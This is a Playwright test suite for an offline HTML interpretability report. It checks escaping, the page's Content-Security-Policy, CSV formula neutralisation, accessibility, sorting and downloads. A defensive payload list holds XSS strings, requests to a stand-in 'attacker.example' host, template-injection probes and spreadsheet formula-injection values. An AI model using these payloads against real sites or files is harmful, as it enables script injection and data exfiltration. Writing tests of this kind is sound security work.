"""The report in a real browser, opened from disk without a network: what the data holds is shown, and nothing more."""

from __future__ import annotations

import csv
import json
import os
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pandas as pd
import pytest

from descry.report.build import build_report
from descry.report.content import Content, SplitContent, tabulate_carriers
from descry.report.figures import strongest
from tests.report.test_report import a_run

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium is installed (apt-get install chromium)")

RUN = "globalThis.pwned=(globalThis.pwned||0)+1"
HOST = "http://attacker.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{HOST}/pixel.png">',
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f'"><script>{RUN}</script>',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<a href=javascript:{RUN}>press</a>",
    f"javascript:{RUN}",
    f"<iframe srcdoc='<script>parent.pwned=1</script>' src={HOST}></iframe>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<base href={HOST}/><form action={HOST}><button>send",
    f"<style>@import '{HOST}/y.css'; *{{display:none}}</style>",
    f"<details open ontoggle={RUN}>",
    "{{7*7}} {% raw %} {{ self.__init__.__globals__ }} ${7*7} `${7*7}`",
    '=HYPERLINK("http://attacker.example";"open")',
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "$\\frac{1}{0$ %s {0} \\u003cscript\\u003e",
)


def hostile() -> Content:
    """A run in which everything that comes from outside is a payload: texts, products, ids, names, members, aspects,
    the model's name."""
    made = a_run(list(PAYLOADS), taught=True)

    def side(part: SplitContent) -> SplitContent:
        count = len(part.sentences)
        texts = [f"{PAYLOADS[row % len(PAYLOADS)]} #{row}" for row in range(count)]
        products = [PAYLOADS[(row + 7) % len(PAYLOADS)] for row in range(count)]
        ids = [f"{PAYLOADS[(row // 3) % len(PAYLOADS)]}{row // 3}" for row in range(count)]
        return replace(part, sentences=pd.DataFrame({"review_id": ids, "product": products, "text": texts}))

    names = {name: PAYLOADS[place % len(PAYLOADS)] for place, name in enumerate(made.aspects["aspect"])}
    explained = [one._replace(text=text, aspects=[text]) for text in PAYLOADS for one in made.explained[:1]]
    return replace(
        made,
        explained=explained,
        calibration=side(made.calibration),
        validation=side(made.validation),
        aspects=made.aspects.assign(aspect=made.aspects["aspect"].map(names)).drop_duplicates("aspect"),
        confusion=made.confusion.assign(aspect=made.confusion["aspect"].map(names).fillna("")).drop_duplicates(
            ["aspect", "descriptor"]
        ),
        target=f"{HOST}/<script>{RUN}</script>",
    )


@pytest.fixture(scope="module")
def run() -> Content:
    return hostile()


@pytest.fixture(scope="module")
def address(run: Content, tmp_path_factory: pytest.TempPathFactory) -> str:
    """Where the page lies."""
    folder = tmp_path_factory.mktemp("report")
    for name, content in build_report(run, exemplars=5).items():
        (folder / name).write_bytes(content)
    return (folder / "index.html").as_uri()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    # Chromium has no sandbox for root, as whom CI runs.
    options = ["--no-sandbox"] if os.geteuid() == 0 else []
    with playwright.sync_playwright() as started:
        opened = started.chromium.launch(executable_path=CHROMIUM, args=options)
        yield opened
        opened.close()


def settled(page: Any) -> Any:
    """The page once it has unpacked what it shows."""
    for _ in range(2):
        page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
        page.locator("[role=status]").first.wait_for(state="detached")  # there may be several
    return page


class Watched:
    """A page, and what it did: every request, every word on the console, every error, dialog and window."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context(offline=True)
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.said: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.said.append(f"{message.type}: {message.text}"))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.said.append("a dialog"), dialog.dismiss()))
        self.page.on("popup", lambda _: self.said.append("a window"))

    @property
    def pwned(self) -> Any:
        return self.page.evaluate("globalThis.pwned ?? 0")

    def outside(self, address: str) -> list[str]:
        """Requests for anything but the page itself, the pictures in it and what it makes itself."""
        own = ("data:", "blob:")
        return [url for url in self.requests if url.partition("#")[0] != address and not url.startswith(own)]

    def see(self, view: str) -> Any:
        """The page at an address of its own, once it is all there."""
        self.page.evaluate(f"location.hash = {json.dumps(view)}")
        return settled(self.page)


@pytest.fixture
def watched(browser: Any, address: str) -> Iterator[Watched]:
    made = Watched(browser)
    made.page.goto(address)
    yield made
    made.context.close()


VIEWS = ("overview", "descriptors", "neurons", "neuron/2:7", "map", "beyond", "try", "labels", "agreement", "measures")


def use(watched: Watched) -> None:
    """What a reader does: sees every view, moves over it, searches, sorts, pages, follows the page's own links."""
    for view in VIEWS:
        page = watched.see(view)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        page.mouse.move(300, 300)
        page.mouse.wheel(0, 5000)
        for link in page.locator("main > section:not([hidden]) :is(a.chip, a.address)").all()[:2]:
            link.click()
            page.go_back()
        for choice in page.locator("#stage:not([hidden]) select").all():
            choice.select_option(index=choice.locator("option").count() - 1)
    watched.see("neurons").fill("#find-neuron", "script")
    watched.page.click("button.sort >> nth=0")
    watched.see("descriptors").fill("#find", "script")
    watched.page.keyboard.press("Tab")


def test_nothing_of_the_data_runs_and_nothing_is_fetched(watched: Watched, address: str) -> None:
    use(watched)
    assert watched.pwned == 0
    assert watched.said == []
    assert watched.outside(address) == []
    assert watched.page.url.partition("#")[0] == address


def test_what_the_data_holds_is_shown_as_it_stands(watched: Watched, run: Content) -> None:
    page = watched.page
    assert page.title() == f"What the neurons of {run.target} respond to"
    assert page.locator(".model").inner_text() == run.target
    watched.see("descriptors")
    assert set(page.locator(".card h2").all_text_contents()) == set(PAYLOADS)
    for payload in PAYLOADS:
        watched.see(f"descriptor/{quote(payload, safe='')}")
        assert page.locator("#stage h1").inner_text().endswith(payload.strip()), payload
        assert page.locator("dd .chip").first.inner_text() == payload
    known = set(run.calibration.sentences["text"]) | set(run.validation.sentences["text"])
    for neuron in ("1:0", "2:7", "3:19"):
        texts = watched.see(f"neuron/{neuron}").locator(".side .text").all_text_contents()
        assert len(texts) == 20  # five of each split, at either end
        assert set(texts) <= known
    assert set(watched.see("try").locator(".said").all_text_contents()) == set(PAYLOADS)


def test_the_page_holds_the_elements_of_its_templates_alone(watched: Watched) -> None:
    for view in VIEWS:
        counted = watched.see(view).evaluate(
            "() => ({scripts: [...document.scripts].filter((one) => one.type !== 'application/gzip').length,"
            " sheets: document.styleSheets.length,"
            " odd: document.querySelectorAll('iframe, object, embed, form, base, link:not([rel=icon])').length,"
            " drawn: document.querySelectorAll('svg').length - document.querySelectorAll('.histogram svg').length,"
            " handlers: [...document.querySelectorAll('*')].filter("
            "   (one) => [...one.attributes].some((own) => own.name.startsWith('on'))).length,"
            " links: [...document.links].filter((one) => !one.getAttribute('href').startsWith('#')).length})"
        )
        assert counted == {"scripts": 1, "sheets": 1, "odd": 0, "drawn": 0, "handlers": 0, "links": 0}, view


@pytest.mark.parametrize("part", [f"<script>{RUN}</script>", "%", "%E0%A4%A", "<img src=x onerror=alert(1)>", "' + 1"])
def test_an_odd_address_is_only_an_address(browser: Any, address: str, part: str) -> None:
    watched = Watched(browser)
    for view in ("", "neuron/", "descriptor/", "neurons?find=", "neurons?of=", "descriptors?sort=", "neurons?page="):
        watched.page.goto("about:blank")
        watched.page.goto(f"{address}#{view}{part}")
        settled(watched.page)
        assert watched.page.locator("main section:not([hidden]) h1").first.is_visible(), view
    assert watched.pwned == 0
    assert watched.said == []
    assert watched.outside(address) == []
    watched.context.close()


def test_the_policy_stops_what_escaping_would_let_through(
    browser: Any, address: str, run: Content, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Were a text put in unescaped, its script would still not run, and nothing be fetched: and without the policy too
    it runs, so this browser would have told."""
    page = Path(address.removeprefix("file://")).read_text(encoding="utf-8")
    open_door = page.replace('<main id="main"', f'<script>{RUN}</script><img src="{HOST}/p.png"><main id="main"', 1)
    without = open_door.replace('http-equiv="Content-Security-Policy"', 'name="none"', 1)
    for name, content, ran in (("policy", open_door, 0), ("none", without, 1)):
        path = tmp_path / f"{name}.html"
        path.write_text(content, encoding="utf-8")
        watched = Watched(browser)
        watched.page.goto(path.as_uri())
        assert watched.pwned == ran
        assert bool(watched.said) is True  # the browser says what was stopped, by the policy or for lack of a network
        watched.context.close()


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> tuple[Content, str]:
    """A run without payloads, and where its page lies."""
    made = a_run([f"word {number}" for number in range(12)], taught=True)
    folder = tmp_path_factory.mktemp("plain")
    for name, content in build_report(made, exemplars=5).items():
        (folder / name).write_bytes(content)
    return made, (folder / "index.html").as_uri()


@pytest.fixture
def opened(browser: Any, plain: tuple[Content, str]) -> Iterator[Watched]:
    made = Watched(browser)
    made.page.goto(plain[1])
    yield made
    assert made.said == []
    assert made.outside(plain[1]) == []
    made.context.close()


def names(page: Any) -> list[str]:
    """The neurons that the table shows."""
    return page.locator("#stage table.rows tbody th").all_text_contents()


def described(run: Content) -> pd.DataFrame:
    return run.calibration.pairs[run.calibration.pairs["enrichment_assigned"]]


def test_neurons_are_found_by_name_word_layer_strength_and_number(opened: Watched, plain: tuple[Content, str]) -> None:
    run, pairs = plain[0], described(plain[0])
    page = opened.see("neurons")
    assert page.locator("output").inner_text() == "60 neurons"
    page.fill("#find-neuron", "2:7")
    assert names(page) == ["2:7"]
    page.fill("#find-neuron", "word 3")
    wanted = pairs[pairs["descriptor"] == "word 3"]
    assert set(names(page)) == {
        f"{row.layer}:{row.index}" for row in wanted[["layer", "index"]].itertuples(index=False)
    }
    page.select_option("#stage select >> nth=0", "2")
    assert set(names(page)) == {f"2:{index}" for index in wanted.loc[wanted["layer"] == 2, "index"]}
    assert "find=word+3" in page.url
    assert "layer=2" in page.url
    opened.see("neurons")
    page.select_option("#stage select >> nth=1", "2")
    counts = pairs.groupby(["layer", "index"]).size()
    assert set(names(page)) == {f"{layer}:{index}" for layer, index in counts[counts >= 2].index}
    opened.see("neurons")
    page.fill("#stage input[type=number]", "0.5")
    strong = pairs[["layer", "index", "descriptor"]].merge(run.associations).query("pearson >= 0.5")
    strong = strong.drop_duplicates(["layer", "index"])
    assert page.locator("output").inner_text() == f"{len(strong)} neurons"


def test_neurons_are_sorted_by_what_the_table_shows(opened: Watched, plain: tuple[Content, str]) -> None:
    first = described(plain[0]).query("enrichment_rank == 1")
    page = opened.see("neurons?count=1&sort=lift")
    down = first.sort_values("lift", ascending=False)
    lifts = [float(text.split()[0]) for text in page.locator("#stage tbody td:nth-child(4)").all_text_contents()]
    assert lifts == sorted(lifts, reverse=True)
    assert lifts[0] == pytest.approx(down["lift"].iloc[0], abs=0.051)
    assert page.locator("th[aria-sort=descending]").inner_text() == "lift ↓"
    page.click("button.sort >> text=lift")
    assert page.locator("th[aria-sort=ascending]").inner_text() == "lift ↑"
    upward = [float(text.split()[0]) for text in page.locator("#stage tbody td:nth-child(4)").all_text_contents()]
    assert upward == sorted(upward)


def test_pages_of_a_table_hold_every_neuron_once(opened: Watched) -> None:
    page = opened.see("neurons?sort=neuron")
    seen = names(page)
    for size in (25, 10):
        page.click("text=Next")
        seen += names(page)
        assert len(names(page)) == size
    assert page.locator("button >> text=Next").is_disabled()
    assert seen == [f"{layer}:{index}" for layer in (1, 2, 3) for index in range(20)]


def downloaded(page: Any, press: str = "#stage button.csv") -> list[list[str]]:
    with page.expect_download() as waiting:
        page.locator(press).first.click()
    text = Path(waiting.value.path()).read_text(encoding="utf-8")
    return list(csv.reader(text.splitlines()))


def test_a_downloaded_table_is_the_table_of_the_run(opened: Watched, plain: tuple[Content, str]) -> None:
    run, pairs = plain[0], described(plain[0]).set_index(["layer", "index", "descriptor"])
    head, *rows = downloaded(opened.see("neurons"))
    described_rows = [dict(zip(head, row, strict=True)) for row in rows if row[2]]
    assert len(described_rows) == len(pairs)
    strengths = run.associations.set_index(["layer", "index", "descriptor"])
    for row in described_rows:
        key = (int(row["layer"]), int(row["index"]), row["descriptor"])
        for name in ("count", "known", "composition", "lift", "q"):
            assert float(row[name]) == pytest.approx(pairs.loc[key, name], rel=1e-5), name
        for name in ("pearson", "pearson_high", "auprc_low"):
            assert float(row[name]) == pytest.approx(strengths.loc[key, name], rel=1e-5), name
    lone = {(row[0], row[1]) for row in rows if not row[2]}
    assert len(lone) == 60 - len(pairs.reset_index().drop_duplicates(["layer", "index"]))
    head, *rows = downloaded(opened.see("descriptors"))
    counts = tabulate_carriers(run).set_index("descriptor")
    assert {row[0]: int(row[5]) for row in rows} == counts["neurons"].to_dict()
    head, *rows = downloaded(opened.see("measures"), "#measures button[data-table=measures]")
    measures = pd.concat([run.consistency, run.evaluation, run.beyond.measures])
    assert [row[0] for row in rows] == measures["measure"].tolist()
    assert [float(row[2]) for row in rows] == pytest.approx(measures["value"].tolist(), rel=1e-5)


def figure(cell: str) -> float:
    return float(cell) if cell else float("nan")


def test_downloads_of_what_goes_beyond_are_the_tables_of_the_run(opened: Watched, plain: tuple[Content, str]) -> None:
    beyond = plain[0].beyond
    page = opened.see("map")
    head, *rows = downloaded(page, "#stage button.csv >> nth=1")
    relations = beyond.relations.assign(replicates=beyond.relations_validation["p"] <= 0.05).set_index(
        ["descriptor", "other"]
    )
    assert len(rows) == len(relations)
    for row in rows:
        own = relations.loc[(row[0], row[1])]
        for name, cell in zip(head[2:], row[2:], strict=True):
            assert figure(cell) == pytest.approx(float(own[name]), rel=2**-12, nan_ok=True), name
    by_z = [float(row[head.index("z")]) for row in rows]
    assert by_z == sorted(by_z, reverse=True)
    page = opened.see("beyond")
    tables = {"transfer": (1, beyond.transfer), "causes": (2, beyond.ablation)}
    for place, table in tables.values():
        head, *rows = downloaded(page, f"#stage button.csv >> nth={place}")
        expected = table.set_index("descriptor")
        assert {row[0] for row in rows} == set(expected.index)
        for row in rows:
            for name, cell in zip(head[1:], row[1:], strict=True):
                assert figure(cell) == pytest.approx(expected.loc[row[0], name], abs=1e-6, nan_ok=True), name
    head, *rows = downloaded(page, "#stage button.csv >> nth=0")
    driven = beyond.triggers.merge(described(plain[0])[["layer", "index"]].drop_duplicates())
    counts = driven.groupby(["layer", "class"]).size()
    for row in rows:
        for name, cell in zip(head[1:], row[1:], strict=True):
            assert int(cell) == counts.get((int(row[0]), name), 0)


def test_a_descriptor_says_whether_its_neurons_fire_together(opened: Watched, plain: tuple[Content, str]) -> None:
    cofiring = plain[0].beyond.cofiring.set_index("descriptor")
    facts = opened.see("descriptor/word%203").locator("dl.facts >> nth=1").inner_text()
    own = cofiring.loc["word 3"]
    ratio, split, absorbed = f"{own['ratio']:.1f}\u00a0×", int(own["split"]), int(own["absorbed"])
    assert f"two fire together {ratio} as often as independent ones" in facts
    assert (
        f"{split} {'pair splits' if split == 1 else 'pairs split'} them, in {absorbed} one neuron is absorbed" in facts
    )
    assert f"(chance {own['chance']:.1f})" in facts
    assert "two fire together" not in opened.see("descriptor/word%201").locator("#stage").inner_text()  # no ratio
    assert "Co-firing" not in opened.see("descriptor/word%200").locator("#stage").inner_text()  # no neuron has it first


def test_what_drives_a_neuron_is_shown_and_can_be_asked_for(opened: Watched, plain: tuple[Content, str]) -> None:
    run = plain[0]
    drives = run.beyond.triggers.merge(described(run)[["layer", "index"]].drop_duplicates())
    for kind in ("token-bound", "lexical", "contextual"):
        page = opened.see(f"neurons?driven={kind}&sort=neuron")
        wanted = drives[drives["class"] == kind]
        assert page.locator("output").inner_text() == f"{len(wanted)} neurons"
        assert set(names(page)) <= {f"{one.layer}:{one.index}" for one in wanted[["layer", "index"]].itertuples()}
    page.select_option("#stage label:has-text('Triggered by') select", "")
    assert page.locator("output").inner_text() == "60 neurons"
    own = drives.query("layer == 2").iloc[0]
    card = opened.see(f"neuron/2:{own['index']}").locator("section:has(> h2:text('What triggers it'))")
    assert card.locator("b").first.inner_text() == own["class"]
    said = card.locator(".chip").all_text_contents()
    assert [text.rsplit(" ", 1)[0].strip() for text in said[: len(own["words"])]] == list(own["words"])
    assert said[-1] == own["pattern"]


def test_the_negative_end_and_what_a_neuron_writes_are_on_its_card(opened: Watched, plain: tuple[Content, str]) -> None:
    run = plain[0]
    assert run.beyond.negative is not None
    pairs = run.beyond.negative.pairs
    layer, index = pairs[["layer", "index"]].iloc[0]
    own = pairs[(pairs["layer"] == layer) & (pairs["index"] == index)]
    page = opened.see(f"neuron/{layer}:{index}")
    table = page.locator("[aria-label='Descriptors of its negative end']")
    assert table.locator("tbody th").all_inner_texts() == own["descriptor"].tolist()
    card = page.locator("section:has(> h2:text('What it writes'))")
    assert card.locator(".chip").first.inner_text() == "·<u>promoted"
    sides = page.locator("section.side", has_text="where it is most negative")
    neuron = 20 * (int(layer) - 1) + int(index)
    rows = run.beyond.negative.rows.calibration[neuron]
    texts = run.calibration.sentences["text"].iloc[rows[rows >= 0]].tolist()
    assert sides.locator(".text").all_text_contents() == texts[: sides.locator("li").count()]
    assert sides.locator("li").count() > 1


def test_descriptions_in_free_text_are_on_the_cards(opened: Watched, plain: tuple[Content, str]) -> None:
    gloss = plain[0].beyond.glosses.iloc[0]
    assert gloss["description"] in opened.see(f"descriptor/{gloss['descriptor']}").locator("#stage").inner_text()
    page = opened.see("neuron/2:4")
    rows = page.locator("[aria-label='Descriptions in free text'] tbody tr")
    judged = plain[0].beyond.judged.query("layer == 2 and index == 4")
    assert rows.locator("td").nth(0).inner_text() == "<u>a text"
    assert rows.locator("td.number").nth(0).inner_text() == f"{judged['auroc'].iloc[0]:.2f}"
    assert rows.nth(0).locator("td.number").nth(2).inner_text() == "–"
    assert rows.count() == 2
    assert opened.see("neuron/2:6").locator("[aria-label='Descriptions in free text']").count() == 0


def test_tables_of_what_goes_beyond_are_sorted(opened: Watched, plain: tuple[Content, str]) -> None:
    page = opened.see("beyond")
    first = page.locator("#stage table.rows").nth(0)
    transfer = plain[0].beyond.transfer.sort_values("replication", ascending=False)
    assert first.locator("tbody th").all_text_contents()[:5] == transfer["descriptor"].tolist()[:5]
    page.click("button.sort >> text=replication there")
    upward = first.locator("tbody th").all_text_contents()
    assert [name for name in upward if name != transfer["descriptor"].iloc[-1]][:5] == transfer["descriptor"].tolist()[
        -2:-7:-1
    ]
    assert "transfer_up=true" in page.url


def test_no_cell_of_a_download_is_a_formula(watched: Watched) -> None:
    for view in ("neurons", "descriptors", "map", "beyond"):
        for row in downloaded(watched.see(view))[1:]:
            starts = [
                cell.lstrip()[:1] for cell in row if not cell.replace(".", "").replace("e", "").lstrip("-").isdigit()
            ]
            assert not {"=", "+", "-", "@"} & set(starts), row


def test_links_lead_from_descriptor_to_neuron_to_neighbour_and_back(opened: Watched) -> None:
    page = opened.see("descriptors")
    page.click(".card h2 a >> nth=0")
    settled(page)
    name = page.locator("#stage h1").inner_text().split("\n")[-1]
    page.click("#stage tbody th a >> nth=0")
    settled(page)
    neuron = page.locator("#stage h1").inner_text().split("\n")[-1]
    assert page.url.endswith(f"#neuron/{neuron}")
    assert name in page.locator("#stage table").first.inner_text()
    assert page.title().startswith(neuron)
    page.click(".neighbours a.address >> nth=0")
    settled(page)
    assert page.locator("#stage h1").inner_text().split("\n")[-1] != neuron
    page.go_back()
    settled(page)
    assert page.locator("#stage h1").inner_text().split("\n")[-1] == neuron
    page.go_back()
    settled(page)
    assert page.locator("#stage h1").inner_text().split("\n")[-1] == name


def test_an_address_opens_what_it_names(browser: Any, plain: tuple[Content, str]) -> None:
    for view, heading in (
        ("neuron/3:4", "3:4"),
        ("descriptor/word%205", "word 5"),
        ("map", "Map"),
        ("measures", "Measures"),
    ):
        watched = Watched(browser)
        watched.page.goto(f"{plain[1]}#{view}")
        shown = watched.page.locator("main section:not([hidden]) h1").first
        assert shown.inner_text().split("\n")[-1] == heading
        assert watched.said == []
        watched.context.close()


def test_tokens_are_shaded_by_the_neurons_own_values(opened: Watched, plain: tuple[Content, str]) -> None:
    """The made-up values of a token are high at a sentence's end alone."""
    page = opened.see("neuron/2:7")
    run = plain[0]
    texts = page.locator(".side >> nth=0").locator(".text")
    assert texts.count() == 5
    for place in range(5):
        text = run.calibration.sentences["text"].iloc[run.calibration.rows[27, place]]
        assert texts.nth(place).text_content() == text
        assert texts.nth(place).locator("mark").last.text_content() == text.split()[-1]


def test_dark_and_light_and_what_was_chosen_is_kept(browser: Any, plain: tuple[Content, str]) -> None:
    watched = Watched(browser)
    page = watched.page
    page.emulate_media(color_scheme="light")
    page.goto(plain[1])
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    page.click("#theme")
    assert page.get_attribute("#theme", "aria-pressed") == "true"
    dark = page.evaluate(ground)
    assert dark != light
    page.reload()
    assert page.evaluate(ground) == dark
    page.click("#theme")
    assert page.evaluate(ground) == light
    page.emulate_media(media="print")
    assert page.evaluate(ground) == "rgb(255, 255, 255)"
    watched.context.close()


def tabbed(page: Any, times: int) -> list[str]:
    """What the Tab key reaches, one after the other."""
    reached = []
    for _ in range(times):
        page.keyboard.press("Tab")
        own = page.evaluate("((own) => own.id || own.className || own.tagName)(document.activeElement)")
        reached.append(own)
    return reached


def test_the_keyboard_reaches_everything(opened: Watched) -> None:
    first = tabbed(opened.page, 12)
    assert first[0] == "skip"
    assert "theme" in first
    page = opened.see("neurons?find=word+1")
    assert {"find-neuron", "csv", "sort", "address", "chip", "scroll"} <= set(tabbed(page, 30))
    opened.see("neurons")
    page.focus("#find-neuron")
    page.keyboard.type("2:1")
    settled(page)
    page.focus("#stage tbody th a >> nth=0")
    page.keyboard.press("Enter")
    page.wait_for_url("**/*#neuron/**")
    settled(page)
    assert page.locator("#stage h1").inner_text().split("\n")[-1].startswith("2:1")
    assert page.evaluate("document.activeElement.tagName") == "H1"
    page.focus(".skip")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    assert "#neuron/" in page.url


def test_the_first_screen_leads_to_the_full_cards(opened: Watched, plain: tuple[Content, str]) -> None:
    run = plain[0]
    units = strongest.select_strongest(run)
    assert len(units) >= 3
    page = opened.see("overview")
    cards = page.locator(".unit")
    assert cards.locator("a.address").all_text_contents() == [unit.address for unit in units]
    for number, unit in enumerate(units):
        assert cards.nth(number).locator("a.chip").inner_text() == unit.descriptor
        short = cards.nth(number).locator(".text")
        shown = [[mark.text_content() for mark in text.locator("mark").all()] for text in short.all()]
        cards.nth(number).locator("a.address").click()
        settled(page)
        assert page.locator("#stage h1").inner_text().split("\n")[-1] == unit.address
        validation = page.locator(".side >> nth=1").locator(".text")
        full = [[mark.text_content() for mark in validation.nth(n).locator("mark").all()] for n in range(len(shown))]
        assert shown == full
        opened.see("overview")
    page.click("text=All measures")
    page.wait_for_selector("#measures:not([hidden])")  # the page turns to it once the click is over
    assert page.locator("main section:not([hidden]) h1").first.inner_text() == "Measures"


def test_the_first_screen_needs_no_script(browser: Any, plain: tuple[Content, str]) -> None:
    context = browser.new_context(offline=True, java_script_enabled=False)
    page = context.new_page()
    page.goto(plain[1])
    assert page.locator(".unit").count() == len(strongest.select_strongest(plain[0]))
    assert page.locator(".unit mark").first.is_visible()
    assert page.locator(".trusted").count() == 4
    context.close()


@pytest.mark.long
@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
def test_anyone_can_use_it(browser: Any, plain: tuple[Content, str], scheme: Any, width: int) -> None:
    """axe-core finds nothing, and nothing is wider than the window."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    context = browser.new_context(offline=True, viewport={"width": width, "height": 844}, color_scheme=scheme)
    page = context.new_page()
    for view in (*VIEWS, "descriptor/word%205", "neurons?find=nothing"):
        page.goto("about:blank")
        page.goto(f"{plain[1]}#{view}")
        settled(page)
        found = axe.run(page).response["violations"]
        assert [(one["id"], one["impact"], one["nodes"][0]["html"]) for one in found] == [], view
        assert page.evaluate("document.documentElement.scrollWidth") <= width, view
    context.close()
